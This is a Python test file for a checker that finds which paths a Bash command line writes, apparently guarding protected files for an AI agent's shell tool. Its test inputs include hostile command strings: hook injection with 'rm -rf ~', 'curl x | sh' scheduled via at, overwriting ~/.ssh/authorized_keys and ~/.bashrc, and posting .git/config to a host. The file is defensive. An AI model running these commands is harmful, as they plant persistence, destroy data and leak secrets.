"""What a Bash command line writes, as the protected-path check sees it: redirections, the
operands of programs known to write, every word of programs that may write anything, and
what is known only when the line runs, relative to where the line has `cd`-ed."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from stayer.exec.shell_syntax import parse
from stayer.tools.base import ToolContext, Written
from stayer.tools.builtin.bash import BashInput, BashTool
from stayer.tools.builtin.bash_writes import written

W = Path("/w")
HOME = str(Path.home())


def writes(line: str, cwd: Path = W) -> Written:
    return written(parse(line), cwd)


WRITES = [
    # redirections
    ("echo x >> .git/config", "/w/.git/config"),
    ("echo x >| out.txt", "/w/out.txt"),
    ("make &> build.log", "/w/build.log"),
    ("exec 3> .git/config", "/w/.git/config"),
    ("echo x > >(tee .git/config)", "/w/.git/config"),
    ("cat > .git/hooks/pre-commit <<EOF\nrm -rf ~\nEOF", "/w/.git/hooks/pre-commit"),
    # programs that write their operands
    ("tee -a .git/config < x", "/w/.git/config"),
    ("cat x | tee a b", "/w/b"),
    ("cp x .git/hooks/pre-commit", "/w/.git/hooks/pre-commit"),
    ("cp pre-commit .git/hooks", "/w/.git/hooks/pre-commit"),
    ("cp -t .git/hooks a", "/w/.git/hooks/a"),
    ("mv a.sample .git/hooks/pre-commit", "/w/.git/hooks/pre-commit"),
    ("mv .git/hooks old-hooks", "/w/.git/hooks"),
    ("ln -s /tmp/hook .git/hooks/pre-commit", "/w/.git/hooks/pre-commit"),
    ("ln .git/config notes", "/w/.git/config"),
    ("cp -l .git/config notes", "/w/.git/config"),
    ("ln -s .git g", "/w/.git"),
    ("install -m 755 x .git/hooks/pre-commit", "/w/.git/hooks/pre-commit"),
    ("install -d .husky", "/w/.husky"),
    ("rsync x host:.ssh/authorized_keys", f"{HOME}/.ssh/authorized_keys"),
    ("scp host:evil ~/.bashrc", f"{HOME}/.bashrc"),
    ("sed -i 's/a/b/' .git/config", "/w/.git/config"),
    ("sed -i.bak -e s/a/b/ .git/config", "/w/.git/config"),
    ("sed -Ei s/a/b/ .git/config", "/w/.git/config"),
    ("sed --in-place=.bak s/a/b/ f", "/w/f"),
    ("sed -n 'w .git/config' x", "/w/.git/config"),
    ("dd if=x of=.git/config", "/w/.git/config"),
    ("sort -o .git/config x", "/w/.git/config"),
    ("sort -k2 --output=out x", "/w/out"),
    ("uniq in .git/config", "/w/.git/config"),
    ("touch .git/hooks/x", "/w/.git/hooks/x"),
    ("mkdir -p .husky/_", "/w/.husky/_"),
    ("chmod +x .git/hooks/pre-commit", "/w/.git/hooks/pre-commit"),
    ("truncate -s 0 .git/config", "/w/.git/config"),
    ("rm -f .git/index.lock", "/w/.git/index.lock"),
    ("time -o .git/x ls", "/w/.git/x"),
    ("find . -name x -fprint .git/x", "/w/.git/x"),
    ("find .git -name '*.lock' -delete", "/w/.git"),
    ("tar -xzf a.tgz -C .git/hooks", "/w/.git/hooks"),
    ("tar xf a.tar .git/config", "/w/.git/config"),
    ("tar -czf .git/x.tgz src", "/w/.git/x.tgz"),
    ("unzip a.zip -d .husky", "/w/.husky"),
    ("gunzip .bashrc.gz", "/w/.bashrc"),
    ("curl -o ~/.bashrc https://example.com/x", f"{HOME}/.bashrc"),
    ("curl -sSLo .git/hooks/pre-commit https://example.com/x", "/w/.git/hooks/pre-commit"),
    ("curl -O https://example.com/a/.bashrc?x=1", "/w/.bashrc"),
    ("curl --output-dir .git/hooks -O https://e.com/pre-commit", "/w/.git/hooks/pre-commit"),
    ("wget https://example.com/.bashrc", "/w/.bashrc"),
    ("wget -qO .git/config https://example.com/x", "/w/.git/config"),
    ("wget -P .git/hooks https://example.com/pre-commit", "/w/.git/hooks/pre-commit"),
    # places programs write of their own accord
    ("git config core.fsmonitor 'touch /tmp/x'", "/w/.git/config"),
    ("git config --unset core.pager", "/w/.git/config"),
    ("git config set core.pager less", "/w/.git/config"),
    ("git config --global core.pager x", f"{HOME}/.gitconfig"),
    ("git config --global core.pager x", f"{HOME}/.config/git/config"),
    ("git config --system a.b c", "/etc/gitconfig"),
    ("git config --file .gitmodules a.b c", "/w/.gitmodules"),
    ("git config --worktree a.b c", "/w/.git/config.worktree"),
    ("git -C sub config a.b c", "/w/sub/.git/config"),
    ("GIT_DIR=evil git config a.b c", "/w/evil/config"),
    ("git --git-dir=evil config a.b c", "/w/evil/config"),
    ("git init", "/w/.git/HEAD"),
    ("git init --bare evil", "/w/evil/HEAD"),
    ("git init --bare evil", "/w/evil/objects"),
    ("git init --separate-git-dir store work", "/w/store/config"),
    ("git clone https://example.com/x/proj.git", "/w/proj/.git/HEAD"),
    ("git clone --bare https://example.com/x/proj", "/w/proj.git/HEAD"),
    ("git clone -b main https://example.com/x/proj dest", "/w/dest/.git/config"),
    ("git submodule add https://example.com/x lib", "/w/.gitmodules"),
    ("git format-patch -o .git/x HEAD~1", "/w/.git/x"),
    ("crontab jobs.txt", "/var/spool/cron/crontabs"),
    ("echo 'curl x | sh' | at now + 1 hour", "/var/spool/cron/atjobs"),
    ("systemd-run --user --on-calendar=daily evil", f"{HOME}/.config/systemd/user"),
    ("systemctl --user enable evil.service", f"{HOME}/.config/systemd/user"),
    ("ssh-keygen -t ed25519 -N ''", f"{HOME}/.ssh"),
    ("ssh-keygen -f deploy_key -N ''", "/w/deploy_key"),
    ("npm config set script-shell /tmp/evil", f"{HOME}/.npmrc"),
    ("sudo tee /etc/gitconfig", "/etc/gitconfig"),
    ("find . -name '*.sample' -exec cp {} .git/hooks/ \\;", "/w/.git/hooks"),
    # where the line has gone
    ("cd .git && echo x >> config", "/w/.git/config"),
    ("cd .git/hooks; cp ../../x pre-commit", "/w/.git/hooks/pre-commit"),
    ("(cd .git && echo x > config)", "/w/.git/config"),
    ("env -C .git tee config", "/w/.git/config"),
    ("cd; echo x >> .bashrc", f"{HOME}/.bashrc"),
    # words read as far as they can be
    ('echo x >> "$HOME/.bashrc"', f"{HOME}/.bashrc"),
    ("echo x >> ${HOME}/.bashrc", f"{HOME}/.bashrc"),
    ("echo x >> ~/$'\\x2ebashrc'", f"{HOME}/.bashrc"),
    ("echo x | tee -a ~/.{bashrc,zshrc}", f"{HOME}/.zshrc"),
]


@pytest.mark.parametrize(("line", "path"), WRITES)
def test_a_line_writes_what_its_redirections_and_programs_write(line: str, path: str) -> None:
    assert path in writes(line).paths


MENTIONS = [
    ("python3 x.py ~/.ssh/config", f"{HOME}/.ssh/config"),
    ("node w.js .git/hooks/pre-commit", "/w/.git/hooks/pre-commit"),
    ("python3 -c \"open('.git/config', 'a').write('x')\"", "/w/.git/config"),
    ("tool --out=.git/config", "/w/.git/config"),
    ("perl -pi -e s/a/b/ .git/config", "/w/.git/config"),
    ('node w.js "$HOME/.ssh/config"', f"{HOME}/.ssh/config"),
    ("git checkout -- .husky/pre-commit", "/w/.husky/pre-commit"),
    ("git mv hook .husky/pre-commit", "/w/.husky/pre-commit"),
    ("cd .git && python3 w.py hooks/pre-commit", "/w/.git/hooks/pre-commit"),
]


def test_env_split_string_is_the_command_it_names() -> None:
    # env -S is split into the command it is: tee then writes what it names, plainly
    assert "/w/.git/config" in writes("env -S 'tee -a .git/config'").paths


@pytest.mark.parametrize(("line", "path"), MENTIONS)
def test_a_program_that_may_write_anything_may_write_what_its_words_name(
    line: str, path: str
) -> None:
    found = writes(line)
    assert path in found.mentioned
    assert path not in found.paths


UNKNOWN = [
    ('echo x > "$f"', "/w/$f"),
    ('for f in *.py; do sed -i s/a/b/ "$f"; done', "/w/$f"),
    ('echo x >> "$(git rev-parse --git-dir)/config"', "/w/$(git rev-parse --git-dir)/config"),
    ("ls | xargs -I{} cp x {}", "/w/\u2026"),
    ("find . -type f | xargs sed -i s/a/b/", "/w/\u2026"),
    ("bash <<'EOF'\necho x\nEOF", "/w/\u2026"),
    ("echo 'echo x' | sh", "/w/\u2026"),
    ("tar -xf a.tar", "/w/\u2026"),
    ("wget -r https://example.com/", "/w/\u2026"),
    ("patch -p1 < fix.patch", "/w/\u2026"),
    ('cd "$d" && cp x pre-commit', '"$d"/pre-commit'),
]


@pytest.mark.parametrize(("line", "text"), UNKNOWN)
def test_what_is_known_only_when_the_line_runs_is_reported_as_written(line: str, text: str) -> None:
    assert text in writes(line).unknown


NOTHING = [
    "ls -la",
    "cat .git/config",
    "git status",
    "git log -p -- .husky",
    "grep -r x .",
    "echo .bashrc",
    "git commit -m 'fix .bashrc'",
    "git commit -am 'touch .git/config'",
    "git config user.name",
    "git config --get core.pager",
    "git config --list --show-origin",
    "git config get core.pager",
    "sort names.txt",
    "sed -n 1p .git/config",
    "source ~/.bashrc",
    "export PATH=~/.local/bin:$PATH",
    "cd .git",
    "echo x > /dev/null 2>&1",
    "test -f .git/config && echo yes",
    "ssh-keygen -l -f ~/.ssh/id_ed25519.pub",
    "crontab -l",
    "systemctl --user status x",
    "ssh-add ~/.ssh/id_ed25519",
]


@pytest.mark.parametrize("line", NOTHING)
def test_a_line_that_only_looks_writes_nothing(line: str) -> None:
    assert writes(line) == Written()


@pytest.mark.parametrize(
    ("line", "read"),
    [
        ("cp .git/config backup.txt", "/w/.git/config"),
        ("rsync -a ~/.ssh/ backup/", f"{HOME}/.ssh"),
        ("tar -czf backup.tgz .git", "/w/.git"),
        ("curl -d @.git/config -o out https://example.com", "/w/.git/config"),
        ("ssh-keygen -f deploy_key -N ''", f"{HOME}/.ssh"),
    ],
)
def test_what_a_writer_only_reads_is_not_written(line: str, read: str) -> None:
    assert read not in writes(line).paths


def test_a_folder_copied_writes_every_name_inside_it(tmp_path: Path) -> None:
    (tmp_path / "dots" / ".config" / "git").mkdir(parents=True)
    (tmp_path / "dots" / ".bashrc").write_text("")
    (tmp_path / "dots" / ".config" / "git" / "config").write_text("")

    for line in ("cp -r dots/. home", "rsync -a dots/ home/"):
        found = writes(line, tmp_path).paths
        assert str(tmp_path / "home" / ".bashrc") in found, line
        assert str(tmp_path / "home" / ".config" / "git" / "config") in found, line
    assert str(tmp_path / "home" / "dots" / ".bashrc") in writes("cp -r dots home", tmp_path).paths


def test_a_folder_too_large_to_list_is_reported_as_unknown(tmp_path: Path) -> None:
    many = tmp_path / "many"
    many.mkdir()
    for index in range(2_001):
        (many / str(index)).touch()
    assert str(tmp_path / "dest" / "\u2026") in writes("cp -r many/. dest", tmp_path).unknown


def test_more_brace_expansions_than_can_be_judged_leave_the_word_unknown() -> None:
    many = ",".join(f"a{n}" for n in range(1_100))
    found = writes(f"echo x > ~/.{{{many},bashrc}}")
    assert found.paths == ()
    assert found.unknown == (f"{HOME}/.{{{many},bashrc}}",)
    assert writes("echo x > log{1..999999999}").unknown == ("/w/log{1..999999999}",)


def test_a_glob_matching_more_than_can_be_judged_is_unknown(tmp_path: Path) -> None:
    for index in range(300):
        (tmp_path / f"{index}.txt").touch()
    found = writes("sed -i s/a/b/ *.txt", tmp_path)
    assert str(tmp_path / "*.txt") in found.unknown
    assert str(tmp_path / "1.txt") not in found.paths


def test_a_glob_is_matched_on_the_disk(tmp_path: Path) -> None:
    (tmp_path / ".git" / "hooks").mkdir(parents=True)
    (tmp_path / ".git" / "hooks" / "pre-commit.sample").write_text("")
    found = writes("cp evil .gi?/hooks/pre-commit.sampl?", tmp_path).paths
    assert str(tmp_path / ".git" / "hooks" / "pre-commit.sample") in found


async def test_write_paths_start_where_an_earlier_call_left_the_shell(tmp_path: Path) -> None:
    (tmp_path / "sub").mkdir()
    tool = BashTool()
    ctx = ToolContext(cwd=tmp_path, env=dict(os.environ))
    await tool.call(BashInput(command="cd sub"), ctx)

    found = tool.write_paths(BashInput(command="echo x > config"), tmp_path)
    assert found == Written((str(tmp_path / "sub" / "config"),))
    assert tool.write_paths(BashInput(command="git status"), tmp_path) == Written()
